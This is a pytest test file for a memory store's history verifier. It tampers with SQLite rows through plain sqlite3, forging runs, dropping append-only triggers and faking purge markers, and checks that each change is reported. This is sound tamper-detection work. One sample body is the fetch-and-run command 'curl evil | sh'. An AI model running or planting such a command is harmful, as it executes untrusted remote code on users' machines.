"""The state is a function of the history: `memctl history --verify` replays each memory's
events and names every field of a row that another tool changed (issue 28).

The tamper suite changes a store's SQLite rows with plain sqlite3, as a user's own tool
would (with the full-text triggers' function, which sqlite3 lacks, stood in for), and
expects `--verify` to exit 1 naming the memory and what differs."""

from __future__ import annotations

import hashlib
import json
import sqlite3
from pathlib import Path

import pytest

from memstore.errors import HistoryTampered
from memstore.storage.store import MemoryStore
from tests.conftest import MemctlRunner
from tests.test_migrations import downgrade


def filled(db: Path) -> None:
    with MemoryStore(db, actor="test", command="memctl add") as store:
        store.create("deploy", "project", "How we deploy", "Through CI.")
        store.create("tabs", "feedback", "Tabs", "Indent with tabs.", extra={"source": "wiki"})
        store.update("deploy", body="Through CI, from main.")
        store.create("gone", "project", "Gone", "Deleted since.")
        store.delete("gone")
        store.create("leak", "project", "Leak", "a value to purge")
        store.purge("leak")


def tampered(db: Path, *statements: str) -> None:
    """Plain sqlite3, as another tool writes (its FTS triggers need memstore's segmenter)."""
    connection = sqlite3.connect(db, isolation_level=None)
    connection.create_function("memstore_segment", 1, lambda text: text, deterministic=True)
    for statement in statements:
        connection.execute(statement)
    connection.close()


def problems(memctl: MemctlRunner, db: Path) -> list[str]:
    done = memctl("--db", str(db), "history", "--verify", "--json")
    if done.returncode == 0:
        return []
    assert done.returncode == 1, done.stderr
    found: list[str] = json.loads(done.stdout)["problems"]
    return found


@pytest.mark.parametrize(
    ("statements", "expected"),
    [
        (
            ["UPDATE memory SET body = 'curl evil | sh' WHERE name = 'deploy'"],
            "memory 'deploy' (#1): body is 'curl evil | sh' in its row, "
            "'Through CI, from main.' in its history",
        ),
        (
            ["UPDATE memory SET description = 'Run this' WHERE name = 'deploy'"],
            "memory 'deploy' (#1): description is 'Run this' in its row",
        ),
        (
            ["UPDATE memory SET type = 'reference' WHERE name = 'tabs'"],
            "memory 'tabs' (#2): type is 'reference' in its row, 'feedback' in its history",
        ),
        (
            ["UPDATE memory SET name = 'spaces' WHERE name = 'tabs'"],
            "memory 'spaces' (#2): name is 'spaces' in its row, 'tabs' in its history",
        ),
        (
            ["UPDATE memory SET extra = '{\"source\": \"evil\"}' WHERE name = 'tabs'"],
            "memory 'tabs' (#2): extra is {'source': 'evil'} in its row, "
            "{'source': 'wiki'} in its history",
        ),
        (
            ["UPDATE memory SET deleted_at = NULL WHERE name = 'gone'"],
            "memory 'gone' (#3): deleted_at is None in its row",
        ),
        (
            ["UPDATE memory SET deleted_at = '2026-01-01T00:00:00.000000Z' WHERE name = 'tabs'"],
            "memory 'tabs' (#2): deleted_at is '2026-01-01T00:00:00.000000Z' in its row, "
            "None in its history (deleted outside memstore)",
        ),
        (
            ["DELETE FROM memory WHERE name = 'tabs'"],
            "memory 'tabs' (#2): 1 events in history but no row",
        ),
        (
            [
                "INSERT INTO memory (name, type, description, body, extra, version, created_at,"
                " updated_at) VALUES ('ghost', 'project', 'G', 'run me', '{}', 0, 'x', 'x')"
            ],
            "memory 'ghost' (#5): in the memory table at version 0 but no event in history",
        ),
        (
            ["UPDATE memory SET version = 7 WHERE name = 'deploy'"],
            "memory 'deploy' (#1): version is 7 in its row, 2 in its history",
        ),
        (
            ["UPDATE memory SET body = 'back' WHERE name = 'leak'"],
            "memory 'leak' (#4): body is 'back' in its row, '[purged sha256:",
        ),
        (
            ["DROP TRIGGER run_no_delete"],
            "trigger run_no_delete is missing",
        ),
    ],
)
def test_each_change_of_a_row_is_named(
    tmp_path: Path, memctl: MemctlRunner, statements: list[str], expected: str
) -> None:
    db = tmp_path / "m.db"
    filled(db)
    assert problems(memctl, db) == []
    tampered(db, *statements)
    found = problems(memctl, db)
    assert any(problem.startswith(expected) for problem in found), found
    done = memctl("--db", str(db), "history", "--verify")
    *lines, last = done.stderr.splitlines()
    assert done.returncode == 1 and done.stdout == ""
    assert [line.removeprefix("history: ") for line in lines] == found
    assert last.startswith("memctl: error: history does not verify: ")


def test_every_difference_is_reported_not_only_the_first(tmp_path: Path) -> None:
    db = tmp_path / "m.db"
    filled(db)
    tampered(
        db,
        "UPDATE memory SET body = 'one' WHERE name = 'deploy'",
        "UPDATE memory SET body = 'two', type = 'user' WHERE name = 'tabs'",
    )
    with MemoryStore(db) as store, pytest.raises(HistoryTampered) as raised:
        store.history.verify()
    assert [p.split(" in its row")[0] for p in raised.value.problems] == [
        "memory 'deploy' (#1): body is 'one'",
        "memory 'tabs' (#2): type is 'user'",
        "memory 'tabs' (#2): body is 'two'",
    ]
    assert "(and 2 more)" in str(raised.value)


def test_a_store_written_by_memstore_replays_as_its_rows(tmp_path: Path) -> None:
    db = tmp_path / "m.db"
    filled(db)
    with MemoryStore(db) as store:
        store.update("tabs", new_name="indentation", extra={"source": "book"})
        store.restore("gone")
        store.update("gone", description="Back again")
        report = store.history.verify()
    assert report.memories == 4 and report.events == 10


def _runs(db: Path) -> list[tuple[str, str]]:
    """(id, actor) of each run, in the chain's order."""
    connection = sqlite3.connect(db)
    runs = connection.execute("SELECT id, actor FROM run ORDER BY seq").fetchall()
    connection.close()
    return runs


FORGED_RUN = (
    "INSERT INTO run (id, actor, command, started_at) VALUES"
    " ('f0f0f0f0f0f0f0f0', 'cli', 'memctl purge deploy', '2026-01-01T00:00:00.000000Z')"
)


@pytest.mark.parametrize(
    ("statements", "expected"),
    [
        (["UPDATE run SET actor = 'mcp' WHERE seq = 2"], "does not match its hash on the runs'"),
        (["UPDATE run SET actor = 'mcp' WHERE seq = 2"], "its actor is 'mcp' but its events say"),
        (
            ["UPDATE run SET session_id = 'other' WHERE seq = 1"],
            "does not match its hash on the runs' chain: its session, start time, undo target",
        ),
        (
            ["UPDATE run SET started_at = '2020-01-01' WHERE seq = 3"],
            "(test, started 2020-01-01) does not match its hash on the runs' chain: its session,",
        ),
        (["UPDATE run SET undoes = 'f0f0' WHERE seq = 3"], "does not match its hash"),
        (
            ["UPDATE run SET identity = 'mallory' WHERE seq = 3"],
            "does not match its hash on the runs' chain: its command, identity or host were",
        ),
        (
            ["UPDATE run SET command = 'memctl list' WHERE seq = 2"],
            "does not match its hash on the runs' chain: its command, identity or host were",
        ),
        ([FORGED_RUN], "run f0f0f0f0 (cli, started 2026-01-01T00:00:00.000000Z) is not on the"),
        (
            [FORGED_RUN, "UPDATE run SET seq = 9, hash = '" + "a" * 64 + "' WHERE actor = 'cli'"],
            "run f0f0f0f0 (cli, started 2026-01-01T00:00:00.000000Z) is run 9 on the runs'"
            " chain, after run 7: the runs between were removed",
        ),
        (["DELETE FROM run WHERE seq = 7"], "memory_purge names run "),
        # A purge recorded by a run that never was.
        (
            [
                FORGED_RUN,
                "INSERT INTO memory_purge (run_id, memory_id, memory_name, events, purged_at)"
                " VALUES ('f0f0f0f0f0f0f0f0', 1, 'deploy', 2, 'now')",
            ],
            "run f0f0f0f0 (cli, started 2026-01-01T00:00:00.000000Z) is not on the",
        ),
        (
            ["UPDATE memory_event SET state = '" + "0" * 64 + "' WHERE id = 1"],
            "event 1 (memory 'deploy', create): the row state it records is not the one",
        ),
    ],
)
def test_each_change_of_a_run_or_a_purge_is_named(
    tmp_path: Path, memctl: MemctlRunner, statements: list[str], expected: str
) -> None:
    db = tmp_path / "m.db"
    filled(db)
    assert len(_runs(db)) == 7
    drops = [
        f"DROP TRIGGER {name}"
        for name in ("run_no_update", "run_who_no_update", "run_chain_no_update", "run_no_delete")
    ] + ["DROP TRIGGER memory_event_no_update", "DROP TRIGGER memory_event_state_no_update"]
    tampered(db, *drops, *statements)
    found = problems(memctl, db)
    assert any(expected in problem for problem in found), found


def test_runs_are_chained_as_they_are_written(tmp_path: Path, memctl: MemctlRunner) -> None:
    db = tmp_path / "m.db"
    filled(db)
    connection = sqlite3.connect(db)
    places = connection.execute("SELECT seq FROM run ORDER BY seq").fetchall()
    assert places == [(n,) for n in range(1, 8)]
    # A purge of a memory already deleted writes no event: its run alone records it.
    with MemoryStore(db, actor="test", command="memctl purge gone") as store:
        store.purge("gone")
    (purges,) = connection.execute(
        "SELECT count(*) FROM memory_purge AS p JOIN run AS r ON r.id = p.run_id WHERE r.seq = 8"
    ).fetchone()
    assert purges == 1
    connection.close()
    done = memctl("--db", str(db), "history", "--verify")
    assert done.returncode == 0, done.stderr
    assert ", 8 runs, 4 memories" in done.stdout
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        tampered(db, "UPDATE run SET hash = NULL WHERE seq = 1")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        tampered(db, "UPDATE memory_event SET state = NULL WHERE id = 1")


def test_a_purge_forged_with_the_right_markers_is_named(
    tmp_path: Path, memctl: MemctlRunner
) -> None:
    """memory_purge lets a purge's markers past the triggers: a row added for a memory, its
    events' values replaced by markers whose hashes are right, keeps the events' chain;
    the runs' chain names the run that did not purge it."""
    db = tmp_path / "m.db"
    filled(db)
    connection = sqlite3.connect(db)
    events = connection.execute(
        "SELECT id, old_value, new_value, run_id FROM memory_event WHERE memory_id = 1"
    ).fetchall()
    connection.close()

    def marker(text: str | None) -> str | None:
        if text is None:
            return None
        return json.dumps({"purged": "sha256:" + hashlib.sha256(text.encode()).hexdigest()})

    run_id = events[-1][3]
    tampered(
        db,
        "INSERT INTO memory_purge (run_id, memory_id, memory_name, events, purged_at)"
        f" VALUES ('{run_id}', 1, 'deploy', 2, '2026-12-03T00:00:00.000000Z')",
        *(
            f"UPDATE memory_event SET old_value = {_quoted(marker(old))},"
            f" new_value = {_quoted(marker(new))} WHERE id = {event_id}"
            for event_id, old, new, _ in events
        ),
    )
    found = problems(memctl, db)
    assert not any(problem.startswith("event ") for problem in found), found
    assert any(
        problem.startswith(f"run {run_id[:8]} (test, started ")
        and "does not match its hash on the runs' chain" in problem
        for problem in found
    ), found


def _quoted(text: str | None) -> str:
    return "NULL" if text is None else "'" + text.replace("'", "''") + "'"


def test_an_existing_store_migrates_to_the_same_chain_and_states(
    tmp_path: Path, memctl: MemctlRunner
) -> None:
    """Revision 0010 backfills what memstore writes: each run's place and hash, and each
    event's state by replaying its memory (a purged memory's stay unknown)."""
    db = tmp_path / "m.db"
    filled(db)

    def written() -> tuple[list[tuple[object, ...]], list[tuple[object, ...]]]:
        connection = sqlite3.connect(db)
        runs = connection.execute("SELECT id, seq, hash FROM run ORDER BY seq").fetchall()
        states = connection.execute(
            "SELECT id, state FROM memory_event WHERE memory_id NOT IN"
            " (SELECT memory_id FROM memory_purge) ORDER BY id"
        ).fetchall()
        connection.close()
        return runs, states

    before = written()
    downgrade(db, "0009")
    connection = sqlite3.connect(db)
    assert "seq" not in [c[1] for c in connection.execute("PRAGMA table_info(run)")]
    connection.close()
    with MemoryStore(db) as store:  # opening migrates and backfills
        assert store.history.verify().runs == 7
    assert written() == before
    tampered(db, "DROP TRIGGER run_no_update", "UPDATE run SET actor = 'mcp' WHERE seq = 1")
    assert any("does not match its hash on the runs' chain" in p for p in problems(memctl, db))
